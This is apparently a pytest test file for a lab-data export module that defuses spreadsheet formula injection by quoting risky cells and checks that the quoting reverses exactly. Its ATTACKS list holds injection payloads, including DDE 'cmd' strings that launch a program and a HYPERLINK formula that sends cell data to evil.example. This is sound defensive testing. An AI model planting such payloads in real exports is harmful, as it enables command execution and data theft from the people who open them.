"""Every exported cell is data: the neutralising rule and its inverse (core.cells)."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from labdesk.core.cells import (
    TRIGGERS,
    append_xlsx_row,
    csv_row,
    export_value,
    formula_cells,
    neutralise,
    restore,
)

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_text_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["-0.036", "+5", "-12", "0.30", "未检出", "≤0.2", "", "'plain"])
def test_plain_numbers_and_ordinary_text_are_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_quotes_before_a_trigger_get_one_more_so_restore_is_exact() -> None:
    assert neutralise("'=1") == "''=1"
    assert restore("''=1") == "'=1"
    assert neutralise("'-5") == "''-5"


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "a"])))
def test_neutralise_is_undone_by_restore_and_never_leaves_a_trigger_first(text: str) -> None:
    out = neutralise(text)
    assert restore(out) == text
    if out[:1] in TRIGGERS:
        # only a plain signed decimal may still start with + or -
        assert out[0] in "+-" and Decimal(out) == Decimal(text)


@given(st.text())
def test_restore_of_any_text_is_the_text_or_one_quote_less(text: str) -> None:
    back = restore(text)
    assert back == text or "'" + back == text


def test_export_values_keep_numbers_and_refuse_floats() -> None:
    assert csv_row([3, Decimal("0.30"), None, "=1", True]) == [3, "0.30", "", "'=1", "是"]
    with pytest.raises(TypeError):
        export_value(0.3)


def test_xlsx_rows_are_string_cells_never_formulas(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    append_xlsx_row(sheet, [*ATTACKS, 7, "0.50"], text_format=True)
    path = tmp_path / "t.xlsx"
    book.save(path)
    assert formula_cells(path) == []
    cells = next(openpyxl.load_workbook(path).active.iter_rows())
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS) + ["n", "s"]
    # (XML reads a stored carriage return back as a line feed.)
    stored = [str(c.value).replace("\n", "\r") for c in cells[: len(ATTACKS)]]
    assert stored == ["'" + a for a in ATTACKS]
    assert cells[-1].number_format == "@"


def test_formula_cells_are_found(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["a", "b"])
    sheet.append(["x", "=1+1"])
    path = tmp_path / "f.xlsx"
    book.save(path)
    assert formula_cells(path) == ["B2"]
